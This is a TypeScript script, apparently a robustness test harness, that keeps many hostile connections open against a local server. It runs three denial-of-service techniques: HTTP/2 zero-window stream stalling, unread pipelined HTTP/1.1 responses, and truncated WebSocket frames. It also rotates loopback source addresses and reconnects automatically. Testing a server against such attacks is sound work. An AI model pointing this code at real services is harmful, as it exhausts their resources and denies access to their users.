import { randomUUID } from 'node:crypto'
import { connect as connectHttp2 } from 'node:http2'
import { connect as connectTcp } from 'node:net'
import { connect as connectTls, type TLSSocket } from 'node:tls'

/** Keeps hostile connections open until it is stopped: `ATTACK PORT PUBLIC_KEY CONNECTIONS`. */

const [attack = '', portText = '', publicKey = '', connectionsText = ''] = process.argv.slice(2)
const port = Number(portText)
/** Loopback has many addresses; honest visits come from 127.0.0.1. */
const ADDRESSES = 4
const STREAMS = 100
const LARGE = ['/docs/redoc.js', '/openapi.json']
/** Whoever is cut off comes back: 200 connections open about a hundred in a second. */
const AGAIN_MS = 2_000

let opened = 0
process.on('exit', () => process.stderr.write(`${attack}: ${opened} connections opened\n`))
process.on('SIGTERM', () => process.exit(0))

function hostileSocket(index: number, ALPNProtocols: string[]): TLSSocket {
  opened += 1
  const localAddress = `127.0.0.${66 + (index % ADDRESSES)}`
  const socket = connectTls({
    socket: connectTcp({ host: '127.0.0.1', port, localAddress }).on('error', () => {}),
    rejectUnauthorized: false,
    ALPNProtocols,
  })
  return socket.on('error', () => {})
}

const ATTACKS: Record<string, (index: number, again: () => void) => void> = {
  window(index, again) {
    const session = connectHttp2('https://localhost', {
      createConnection: () => hostileSocket(index, ['h2']),
      settings: { initialWindowSize: 0 },
    })
    session.on('error', () => {}).once('close', again)
    for (let stream = 0; stream < STREAMS; stream += 1)
      session.request({ ':path': LARGE[stream % LARGE.length] }).on('error', () => {})
  },
  unread(index, again) {
    const socket = hostileSocket(index, ['http/1.1'])
    socket.once('close', again)
    for (let count = 0; count < 20; count += 1)
      socket.write(`GET ${LARGE[0]} HTTP/1.1\r\nHost: localhost\r\n\r\n`)
    socket.pause()
  },
  channels(index, again) {
    const socket = hostileSocket(index, ['http/1.1'])
    socket.once('close', again).resume()
    socket.write(
      [
        `GET /follow/${randomUUID()}?publicKey=${publicKey} HTTP/1.1`,
        ...['Host: localhost', 'Origin: https://bench.example', 'Connection: Upgrade', 'Upgrade: websocket'],
        'Sec-WebSocket-Version: 13',
        `Sec-WebSocket-Key: ${Buffer.alloc(16, 7).toString('base64')}`,
        '\r\n',
      ].join('\r\n'),
    )
    socket.once('data', () => {
      // A whole report of evidence, and all but the end of another one.
      const report = JSON.stringify({
        more: true,
        network: { outcome: 'failed', answered: false },
        readings: { x: 'x'.repeat(60_000) },
      })
      socket.write(frame(Buffer.from(report), report.length))
      socket.write(frame(Buffer.alloc(65_000), 65_535))
    })
  },
}

/** A text frame that announces `length` bytes. */
function frame(bytes: Buffer, length: number): Buffer {
  const head = Buffer.from([0x81, 0xfe, length >> 8, length & 0xff, 0, 0, 0, 0])
  return Buffer.concat([head, bytes])
}

for (let index = 0; index < Number(connectionsText); index += 1) {
  const begin = (): void => ATTACKS[attack]?.(index, () => setTimeout(begin, AGAIN_MS))
  begin()
}
process.stdout.write('attacking\n')
